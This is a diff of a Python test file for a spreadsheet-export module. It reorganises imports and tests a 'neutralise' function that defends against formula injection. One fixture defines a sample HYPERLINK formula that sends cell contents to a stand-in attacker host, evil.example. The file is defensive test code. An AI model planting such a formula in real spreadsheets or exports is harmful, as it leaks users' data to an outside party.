@@ -7,12 +7,14 @@ from datetime import date
 from openpyxl import load_workbook
 from sqlmodel import Session
 
-from eet import decisions, services
-from eet.access import SYSTEM
-from eet.export import write_pack
-from eet.models import Bottleneck
-from eet.schemas import DwellingIn
-from eet.spreadsheet import neutralise
+from eet.review import decisions
+
+from eet.entry import services
+from eet.accounts.access import SYSTEM
+from eet.review.pack import write_pack
+from eet.store.models import Bottleneck
+from eet.entry.schemas import DwellingIn
+from eet.entry.spreadsheet import neutralise
 
 AS_OF, SINCE = date(2021, 5, 31), date(2021, 1, 15)
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
@@ -21,7 +23,8 @@ EVIL = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
 def test_neutralise_prefixes_formula_starts_only():
     assert [neutralise(v) for v in ("=1+1", "+31", "-x", "@SUM(A1)", "\tx", "Zeist", 5, None)] == \
         ["'=1+1", "'+31", "'-x", "'@SUM(A1)", "'\tx", "Zeist", 5, None]
-    from eet import audit_view, dwelling_table
+    from eet.store import audit_trail as audit_view
+    from eet.figures import dwelling_table
     assert dwelling_table.neutralise is neutralise and audit_view.neutralise is neutralise
 
 
